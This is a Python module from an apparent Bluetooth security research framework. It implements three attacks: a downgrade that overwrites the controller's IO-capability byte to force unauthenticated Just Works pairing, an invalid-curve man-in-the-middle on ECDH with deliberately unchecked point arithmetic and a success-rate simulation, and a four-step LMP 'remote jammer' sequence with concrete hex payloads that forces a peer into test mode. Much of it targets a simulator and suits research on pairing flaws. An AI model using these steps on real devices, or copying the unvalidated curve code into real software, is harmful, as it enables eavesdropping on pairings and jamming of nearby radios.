"""Pairing-level experiments built on the host framework.

* IO-capability downgrade: overwrite the controller's capability byte so every
  pairing falls back to Just Works.
* Fixed-coordinate invalid curve: elliptic-curve arithmetic that never checks
  its inputs, and a Monte Carlo run of the y = 0 substitution.
* Remote jammer: the four LMP steps that push a vulnerable peer into test mode.
"""

from __future__ import annotations

import enum
import json
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from functools import lru_cache
from importlib import resources

import numpy as np

from . import lmp
from .capture import LmpCaptureRecord, LmpDirection
from .sim.controller import Controller, Mode, TxResult


class SecurityError(Exception):
    pass


class InvalidPoint(SecurityError):
    pass


class StepFailed(SecurityError):
    def __init__(self, index: int, message: str, reply: lmp.LmpPdu | None = None):
        super().__init__(f"step {index}: {message}")
        self.index = index
        self.reply = reply


# -- IO capabilities -----------------------------------------------------------


class IoCapability(enum.IntEnum):
    DISPLAY_ONLY = 0x00
    DISPLAY_YES_NO = 0x01
    KEYBOARD_ONLY = 0x02
    NO_INPUT_NO_OUTPUT = 0x03

    @property
    def label(self) -> str:
        return _CAP_LABELS[self]


_CAP_LABELS = {
    IoCapability.DISPLAY_ONLY: "DisplayOnly",
    IoCapability.DISPLAY_YES_NO: "DisplayYesNo",
    IoCapability.KEYBOARD_ONLY: "KeyboardOnly",
    IoCapability.NO_INPUT_NO_OUTPUT: "NoInputNoOutput",
}


class AssociationModel(enum.Enum):
    NUMERIC_COMPARISON = "NumericComparison"
    JUST_WORKS = "JustWorks"
    PASSKEY = "Passkey"


@lru_cache(maxsize=1)
def association_table() -> dict[tuple[IoCapability, IoCapability], AssociationModel]:
    raw = json.loads(resources.files("bluepatch.data").joinpath("association_models.json").read_text())
    by_label = {c.label: c for c in IoCapability}
    return {
        (by_label[i], by_label[r]): AssociationModel(model)
        for i, row in raw["table"].items()
        for r, model in row.items()
    }


def association_model(initiator: IoCapability | int, responder: IoCapability | int) -> AssociationModel:
    return association_table()[(IoCapability(initiator), IoCapability(responder))]


def nino_override(session) -> None:
    """Make the local controller advertise NoInputNoOutput from now on."""
    session.write_memory(session.profile.layout.io_capability, bytes([IoCapability.NO_INPUT_NO_OUTPUT]))


def advertised_capability(session) -> IoCapability:
    return IoCapability(session.read_memory(session.profile.layout.io_capability, 1)[0] & 0x03)


class PairingResult(enum.Enum):
    COMPLETED = "Completed"
    ABORTED = "Aborted"


@dataclass(frozen=True)
class PairingOutcome:
    result: PairingResult
    model: AssociationModel
    advertised: IoCapability
    user_confirmation: bool
    warnings: tuple[str, ...] = ()


def simulate_pairing(session, peer: IoCapability = IoCapability.DISPLAY_YES_NO, *,
                     host_capability: IoCapability = IoCapability.DISPLAY_YES_NO,
                     peer_enforces_consistency: bool = False) -> PairingOutcome:
    """IO-capability exchange and model selection, as far as it matters here.

    The controller, not the host, puts the capability on the air.  A peer that
    cross-checks it against what the host declared sees the mismatch and
    drops the pairing without telling anyone.
    """
    advertised = advertised_capability(session)
    model = association_model(advertised, peer)
    if peer_enforces_consistency and advertised != host_capability:
        return PairingOutcome(PairingResult.ABORTED, model, advertised, False)
    confirm = model is not AssociationModel.JUST_WORKS
    return PairingOutcome(PairingResult.COMPLETED, model, advertised, confirm)


# -- elliptic curves -----------------------------------------------------------------

INFINITY = None


@dataclass(frozen=True)
class CurveParams:
    name: str
    p: int
    a: int
    b: int
    gx: int
    gy: int
    n: int

    def __post_init__(self):
        if (4 * self.a**3 + 27 * self.b**2) % self.p == 0:
            raise ValueError(f"{self.name}: singular curve")

    @property
    def generator(self) -> tuple[int, int]:
        return (self.gx, self.gy)


TINY_CURVE = CurveParams("tiny-211", 211, 1, 1, 0, 1, 223)
P256 = CurveParams(
    "P-256",
    0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF,
    0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFC,
    0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B,
    0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
    0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5,
    0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551,
)


def is_on_curve(point, c: CurveParams) -> bool:
    if point is INFINITY:
        return True
    x, y = point
    return (y * y - (x * x * x + c.a * x + c.b)) % c.p == 0


def point_add(p1, p2, c: CurveParams):
    """Affine addition with no input checks; b never enters the formulas."""
    if p1 is INFINITY:
        return p2
    if p2 is INFINITY:
        return p1
    x1, y1 = p1
    x2, y2 = p2
    m = c.p
    if x1 == x2:
        if (y1 + y2) % m == 0:
            return INFINITY
        lam = (3 * x1 * x1 + c.a) * pow(2 * y1, -1, m) % m
    else:
        lam = (y2 - y1) * pow(x2 - x1, -1, m) % m
    x3 = (lam * lam - x1 - x2) % m
    return (x3, (lam * (x1 - x3) - y1) % m)


def scalar_mult(k: int, point, c: CurveParams, validate: bool = False):
    if k < 0:
        raise ValueError("scalar must be non-negative")
    if validate and not is_on_curve(point, c):
        raise InvalidPoint(f"{point} is not on {c.name}")
    result = INFINITY
    addend = point
    while k:
        if k & 1:
            result = point_add(result, addend, c)
        addend = point_add(addend, addend, c)
        k >>= 1
    return result


@dataclass(frozen=True)
class ExperimentResult:
    trials: int
    successes: int
    attacker_key_parity: str
    victim_validates: bool
    curve: str

    @property
    def success_rate(self) -> float:
        return self.successes / self.trials

    def table(self) -> str:
        return "\n".join([
            "curve     parity  validates  trials  successes  rate",
            f"{self.curve:<9} {self.attacker_key_parity:<7} {str(self.victim_validates):<10} "
            f"{self.trials:>6}  {self.successes:>9}  {self.success_rate:.4f}",
        ])


BATCH = 1000


def _draw(rng: np.random.Generator, lo: int, hi: int) -> int:
    """Uniform integer in [lo, hi); rejection sampling once it leaves int64."""
    if hi <= 2**63:
        return int(rng.integers(lo, hi))
    span = hi - lo
    nbytes = (span.bit_length() + 7) // 8
    mask = (1 << span.bit_length()) - 1
    while True:
        v = int.from_bytes(rng.bytes(nbytes), "big") & mask
        if v < span:
            return lo + v


def _trial_batch(seed: np.random.SeedSequence, count: int, even: bool, validates: bool, c: CurveParams) -> int:
    rng = np.random.default_rng(seed)
    g = c.generator
    wins = 0
    for _ in range(count):
        victim_key = _draw(rng, 1, c.n)
        if even:
            phone_key = 2 * _draw(rng, 1, (c.n - 1) // 2 + 1)
        else:
            phone_key = _draw(rng, 1, c.n)
        victim_pub = scalar_mult(victim_key, g, c)
        phone_pub = scalar_mult(phone_key, g, c)
        # the man in the middle zeroes y on both public keys, x passes through
        to_victim = (phone_pub[0], 0)
        to_phone = (victim_pub[0], 0)
        try:
            victim_secret = scalar_mult(victim_key, to_victim, c, validate=validates)
        except InvalidPoint:
            continue
        phone_secret = scalar_mult(phone_key, to_phone, c)
        if victim_secret == phone_secret:
            wins += 1
    return wins


def invalid_curve_experiment(trials: int, attacker_key_parity: str = "random", victim_validates: bool = False, *,
                             curve: CurveParams = TINY_CURVE, seed: int | None = 0,
                             workers: int = 1) -> ExperimentResult:
    """Monte Carlo over pairings where the attacker zeroes both y coordinates.

    A trial succeeds when both sides end with the same shared point, which
    the attacker can then name: each side holds either the identity or an x
    coordinate that crossed the air in the clear.  Trials run in batches with
    child seeds, so the outcome does not depend on ``workers``.
    """
    if trials < 1:
        raise ValueError("need at least one trial")
    if attacker_key_parity not in ("random", "even"):
        raise ValueError("parity is 'random' or 'even'")
    sizes = [min(BATCH, trials - i) for i in range(0, trials, BATCH)]
    seeds = np.random.SeedSequence(seed).spawn(len(sizes))
    even = attacker_key_parity == "even"
    jobs = list(zip(seeds, sizes))
    if workers > 1:
        with ThreadPoolExecutor(workers) as pool:
            wins = sum(pool.map(lambda j: _trial_batch(j[0], j[1], even, victim_validates, curve), jobs))
    else:
        wins = sum(_trial_batch(s, n, even, victim_validates, curve) for s, n in jobs)
    return ExperimentResult(trials, wins, attacker_key_parity, victim_validates, curve.name)


# -- remote jammer -----------------------------------------------------------------------


@dataclass(frozen=True)
class JamStep:
    opcode: int
    payload: bytes
    fuzz: bool
    expect: str  # "silent", "accepted" or "no_reject"


JAMMER_STEPS: tuple[JamStep, ...] = (
    JamStep(lmp.LMP_SET_AFH, bytes.fromhex("0000000000ffffffffffffffff0000"), False, "silent"),
    JamStep(lmp.BPCS, bytes.fromhex("95"), True, "no_reject"),
    JamStep(lmp.LMP_TEST_ACTIVATE, bytes.fromhex("00"), True, "accepted"),
    JamStep(lmp.LMP_TEST_CONTROL, bytes.fromhex("545575755555555255"), False, "accepted"),
)


@dataclass
class JammerOutcome:
    victim_mode: Mode | None
    afh: lmp.AfhConfig | None
    test_params: lmp.TestControlParams | None
    replies: list[list[lmp.LmpPdu]] = field(default_factory=list)

    @property
    def frequency_mhz(self) -> int | None:
        if self.test_params is None:
            return None
        return self.test_params.tx_frequency_mhz


def _victim(session, handle: int) -> Controller | None:
    ctrl = session.controller
    if ctrl is None:
        return None
    conn = ctrl.connections.get(handle)
    return ctrl.air.find(conn.peer_mac) if conn is not None else None


def jammer_sequence(session, handle: int, steps: tuple[JamStep, ...] = JAMMER_STEPS) -> JammerOutcome:
    """Run the jammer steps in order; raises StepFailed on a wrong reply."""
    records: list[LmpCaptureRecord] = []
    temporary = session.monitor_hooks is None
    session.install_lmp_monitor(records)
    replies: list[list[lmp.LmpPdu]] = []
    try:
        for index, step in enumerate(steps, start=1):
            mark = len(records)
            sent = session.send_lmp(handle, step.opcode, step.payload, fuzz=step.fuzz)
            if sent is not TxResult.SENT:
                raise StepFailed(index, "the local controller dropped the PDU")
            session.poll()
            session.flush()
            got = [lmp.decode_pdu(r.pdu_bytes) for r in records[mark:]
                   if r.direction is LmpDirection.RX and r.pdu_bytes]
            replies.append(got)
            _check_step(index, step, got)
    finally:
        if temporary:
            session.remove_lmp_monitor()
        else:
            session.remove_lmp_monitor(records)
    victim = _victim(session, handle)
    if victim is None:
        return JammerOutcome(None, None, None, replies)
    return JammerOutcome(victim.mode, victim.afh, victim.test_params, replies)


def _check_step(index: int, step: JamStep, replies: list[lmp.LmpPdu]) -> None:
    for pdu in replies:
        if pdu.opcode == lmp.LMP_NOT_ACCEPTED and pdu.payload[:1] == bytes([step.opcode]):
            raise StepFailed(index, f"peer answered LMP_not_accepted (reason {pdu.payload[1]:#04x})", pdu)
    if step.expect == "accepted":
        ok = any(p.opcode == lmp.LMP_ACCEPTED and p.payload[:1] == bytes([step.opcode]) for p in replies)
        if not ok:
            raise StepFailed(index, "expected LMP_accepted")
